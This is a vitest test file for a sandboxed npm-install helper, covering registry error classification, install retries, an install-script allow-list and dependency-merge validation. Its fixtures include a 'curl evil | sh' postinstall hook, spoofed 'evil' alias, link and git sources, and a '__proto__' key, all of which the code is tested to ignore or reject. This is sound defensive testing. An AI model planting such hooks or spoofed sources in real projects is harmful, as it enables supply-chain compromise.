import { describe, expect, it } from 'vitest';
import type { ExecResult } from '../src/index';
import { createSandboxProvider, planManifestMerge, sandboxConfigFromEnv } from '../src/index';
import { allowedScripts, classifyNpmFailure, installAll } from '../src/install';

// npm 11's own words (captured from real runs against the registry).
const E404 = `npm error code E404
npm error 404 Not Found - GET https://registry.npmjs.org/lathe-no-such-package-7f3a9c
npm error 404
npm error 404  The requested resource 'lathe-no-such-package-7f3a9c@*' could not be found or you do not have permission to access it.
npm error 404
npm error A complete log of this run can be found in: /root/.npm/_logs/x-debug-0.log
`;
const E404_SCOPED = `npm error code E404
npm error 404 Not Found - GET https://registry.npmjs.org/@lathe-nope%2fzz-nope
npm error 404
npm error 404  The requested resource '@lathe-nope/zz-nope@*' could not be found or you do not have permission to access it.
`;
const E404_OLD = `npm ERR! code E404
npm ERR! 404 Not Found - GET https://registry.npmjs.org/left-padd - Not found
npm ERR! 404  'left-padd@^1.0.0' is not in this registry.
`;
const ETARGET = `npm error code ETARGET
npm error notarget No matching version found for react@99.0.0.
npm error notarget In most cases you or one of your dependencies are requesting a package version that doesn't exist.
`;
const ERESOLVE = `npm error code ERESOLVE
npm error ERESOLVE unable to resolve dependency tree
npm error While resolving: p@undefined
npm error Found: react@19.3.1
npm error Could not resolve dependency:
npm error peer react@"^15.3.0 || 16 || 17 || 18" from react-copy-to-clipboard@5.1.0
`;
const NETWORK = `npm error code ENOTFOUND
npm error syscall getaddrinfo
npm error errno ENOTFOUND
npm error network request to https://registry.npmjs.org/is-number failed, reason: getaddrinfo ENOTFOUND registry.npmjs.org
`;

const failed = (stderr: string, exitCode: number | null = 1): ExecResult => ({
  exitCode,
  stdout: '',
  stderr,
  timedOut: false,
  cancelled: false,
});
const ok = (): ExecResult => ({ exitCode: 0, stdout: 'added 1 package\n', stderr: '', timedOut: false, cancelled: false });

describe('classifyNpmFailure', () => {
  it('names the package npm blames, with a reason a person reads', () => {
    expect(classifyNpmFailure(failed(E404))).toEqual({
      kind: 'package',
      name: 'lathe-no-such-package-7f3a9c',
      reason: 'not found in the npm registry',
    });
    expect(classifyNpmFailure(failed(E404_SCOPED))).toMatchObject({ kind: 'package', name: '@lathe-nope/zz-nope' });
    expect(classifyNpmFailure(failed(E404_OLD))).toMatchObject({ kind: 'package', name: 'left-padd' });
    expect(classifyNpmFailure(failed(ETARGET))).toEqual({
      kind: 'package',
      name: 'react',
      reason: 'no published version matches "99.0.0"',
    });
    expect(classifyNpmFailure(failed(ERESOLVE))).toEqual({
      kind: 'package',
      name: 'react-copy-to-clipboard',
      reason: 'peer dependency conflict',
    });
  });

  it('tells failures that are nobody package apart', () => {
    expect(classifyNpmFailure(failed(NETWORK))).toMatchObject({ kind: 'environment', reason: expect.stringContaining('ENOTFOUND') });
    expect(classifyNpmFailure(failed('', null))).toMatchObject({ kind: 'environment' });
    expect(classifyNpmFailure(failed('npm error code EWHAT\nnpm error something odd\n'))).toEqual({
      kind: 'unknown',
      reason: 'npm install failed (EWHAT): something odd',
    });
  });
});

/** A scripted npm: each run answers from the specs it is given. */
function npmWhere(answer: (specs: string[]) => ExecResult) {
  const runs: string[][] = [];
  return {
    runs,
    npm: async (specs: string[]) => {
      runs.push(specs);
      return answer(specs);
    },
  };
}

describe('installAll', () => {
  it('installs the whole set in one run when npm succeeds', async () => {
    const run = npmWhere(() => ok());
    const r = await installAll(['a', 'b@1'], run);
    expect(run.runs).toEqual([['a', 'b@1']]);
    expect(r).toMatchObject({ exitCode: 0, installed: ['a', 'b@1'], skipped: [] });
  });

  it('skips the names npm does not know and installs the rest together', async () => {
    const run = npmWhere((specs) => {
      if (specs.includes('lathe-no-such-package-7f3a9c')) return failed(E404);
      if (specs.includes('@lathe-nope/zz-nope@^1')) return failed(E404_SCOPED);
      return ok();
    });
    const r = await installAll(['is-number@7.0.0', 'lathe-no-such-package-7f3a9c', '@lathe-nope/zz-nope@^1'], run);
    expect(run.runs).toEqual([
      ['is-number@7.0.0', 'lathe-no-such-package-7f3a9c', '@lathe-nope/zz-nope@^1'],
      ['is-number@7.0.0', '@lathe-nope/zz-nope@^1'],
      ['is-number@7.0.0'],
    ]);
    expect(r.exitCode).toBe(0);
    expect(r.installed).toEqual(['is-number@7.0.0']);
    expect(r.skipped).toEqual([
      { spec: 'lathe-no-such-package-7f3a9c', reason: 'not found in the npm registry' },
      { spec: '@lathe-nope/zz-nope@^1', reason: 'not found in the npm registry' },
    ]);
    expect(r.stderr).toContain('E404');
  });

  it('falls back to one at a time when npm blames no requested package', async () => {
    // `broken` depends on a package the registry does not have.
    const transitive = E404.replaceAll('lathe-no-such-package-7f3a9c', 'gone-dep');
    const run = npmWhere((specs) => (specs.includes('broken') ? failed(transitive) : ok()));
    const r = await installAll(['a', 'broken', 'c'], run);
    expect(run.runs).toEqual([['a', 'broken', 'c'], ['a'], ['broken'], ['c']]);
    expect(r).toMatchObject({ exitCode: 0, installed: ['a', 'c'] });
    expect(r.skipped).toEqual([{ spec: 'broken', reason: 'its dependency gone-dep: not found in the npm registry' }]);
  });

  it('stops at a failure that is not a package fault and reports every spec left', async () => {
    const run = npmWhere(() => failed(NETWORK));
    const r = await installAll(['a', 'b'], run);
    expect(run.runs).toEqual([['a', 'b']]);
    expect(r.exitCode).toBe(1);
    expect(r.installed).toEqual([]);
    expect(r.skipped.map((s) => s.spec)).toEqual(['a', 'b']);
    expect(r.skipped[0]?.reason).toContain('ENOTFOUND');

    const timedOut = await installAll(
      ['a'],
      npmWhere(() => ({ ...failed('', null), timedOut: true })),
    );
    expect(timedOut).toMatchObject({ exitCode: null, timedOut: true, skipped: [{ spec: 'a', reason: 'the install timed out' }] });
  });
});

describe('allowedScripts', () => {
  const lock = (packages: Record<string, object>) => JSON.stringify({ lockfileVersion: 3, packages: { '': {}, ...packages } });

  it('lists allow-listed packages that have install scripts, nested copies included', () => {
    const text = lock({
      'node_modules/esbuild': { version: '0.28.2', hasInstallScript: true },
      'node_modules/x/node_modules/esbuild': { version: '0.20.0', hasInstallScript: true },
      'node_modules/core-js': { version: '3.51.0', hasInstallScript: true },
      'node_modules/@swc/core': { version: '1.16.22' },
    });
    expect(allowedScripts(text, ['esbuild', '@swc/core'])).toEqual(['esbuild']);
    expect(allowedScripts(text, [])).toEqual([]);
    expect(allowedScripts('not json', ['esbuild'])).toEqual([]);
    expect(allowedScripts('null', ['esbuild'])).toEqual([]);
  });

  it('never lends an allowed name to an alias, a link or a git source', () => {
    const real = { 'node_modules/esbuild': { version: '0.28.2', hasInstallScript: true } };
    expect(
      allowedScripts(lock({ ...real, 'node_modules/y/node_modules/esbuild': { name: 'evil', version: '1.0.0' } }), ['esbuild']),
    ).toEqual([]);
    expect(
      allowedScripts(lock({ ...real, 'node_modules/z/node_modules/esbuild': { link: true, resolved: '../evil' } }), ['esbuild']),
    ).toEqual([]);
    const git = {
      'node_modules/esbuild': { version: '1.0.0', resolved: 'git+ssh://git@github.com/evil/esbuild.git#abc', hasInstallScript: true },
    };
    expect(allowedScripts(lock(git), ['esbuild'])).toEqual([]);
    const registry = {
      'node_modules/esbuild': {
        version: '0.28.2',
        resolved: 'https://registry.npmjs.org/esbuild/-/esbuild-0.28.2.tgz',
        hasInstallScript: true,
      },
    };
    expect(allowedScripts(lock(registry), ['esbuild'])).toEqual(['esbuild']);
  });
});

describe('planManifestMerge', () => {
  const current = JSON.stringify({
    name: 'lathe-app',
    scripts: { dev: 'vite' },
    dependencies: { react: '19.3.1', 'react-dom': '19.3.1' },
    devDependencies: { vite: '8.3.8' },
  });

  it('returns only the new dependencies, as checked specs; the rest of the proposal is ignored', () => {
    const proposed = JSON.stringify({
      name: 'my-app',
      scripts: { dev: 'vite', postinstall: 'curl evil | sh' },
      dependencies: { react: '^18.2.0', 'date-fns': '^4.1.0', zustand: 'latest', '@tanstack/react-query': '*', clsx: '' },
      devDependencies: { vite: '^5.0.0', vitest: '^3.0.0', 'date-fns': '^3.0.0' },
    });
    expect(planManifestMerge(current, proposed)).toEqual({
      ok: true,
      dependencies: ['date-fns@^4.1.0', 'zustand@latest', '@tanstack/react-query@*', 'clsx'],
      devDependencies: ['vitest@^3.0.0'],
      rejected: [],
    });
  });

  it('rejects what is not a registry package, with a reason', () => {
    const proposed = JSON.stringify({
      dependencies: {
        local: 'file:../local',
        fork: 'github:someone/fork',
        alias: 'npm:react@18',
        Bad_Name: '^1.0.0',
        ['__proto__']: '1.0.0',
        ok: '~1.2.0',
      },
    });
    const plan = planManifestMerge(current, proposed);
    if (!plan.ok) throw new Error(plan.message);
    expect(plan.dependencies).toEqual(['ok@~1.2.0']);
    expect(plan.rejected.map((r) => r.spec)).toEqual([
      'local@file:../local',
      'fork@github:someone/fork',
      'alias@npm:react@18',
      'Bad_Name@^1.0.0',
      '__proto__@1.0.0',
    ]);
    expect(plan.rejected[0]?.reason).toMatch(/^only registry packages can be installed: /);
  });

  it('caps how many new packages one proposal may add', () => {
    const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`pkg-${i}`, '1.0.0']));
    const plan = planManifestMerge(current, JSON.stringify({ dependencies: many }));
    if (!plan.ok) throw new Error(plan.message);
    expect(plan.dependencies).toHaveLength(50);
    expect(plan.rejected).toHaveLength(10);
  });

  it('refuses manifests that are not JSON objects', () => {
    expect(planManifestMerge(current, '{ "dependencies": { "a": "1", } }')).toMatchObject({ ok: false, code: 'invalid_manifest' });
    expect(planManifestMerge(current, '[]')).toMatchObject({ ok: false, code: 'invalid_manifest' });
    expect(planManifestMerge(current, '{"dependencies": ["a"]}')).toMatchObject({
      ok: false,
      message: expect.stringContaining('"dependencies"'),
    });
    expect(planManifestMerge('nope', '{}')).toMatchObject({ ok: false, message: expect.stringContaining('current') });
  });
});

describe('install scripts setting', () => {
  it('reads LATHE_SANDBOX_INSTALL_SCRIPTS and refuses anything but package names', () => {
    expect(sandboxConfigFromEnv({ LATHE_SANDBOX_INSTALL_SCRIPTS: 'esbuild, @swc/core' }, '/d').installScripts).toEqual([
      'esbuild',
      '@swc/core',
    ]);
    expect(sandboxConfigFromEnv({ LATHE_SANDBOX_INSTALL_SCRIPTS: 'none' }, '/d').installScripts).toEqual([]);
    expect(sandboxConfigFromEnv({}, '/d').installScripts).toBeUndefined();
    expect(() => createSandboxProvider({ kind: 'local', dataDir: '/d', installScripts: ['esbuild@1'] })).toThrow(/package names/);
    expect(() => createSandboxProvider({ kind: 'local', dataDir: '/d', installScripts: ['../x'] })).toThrow(/package names/);
  });
});
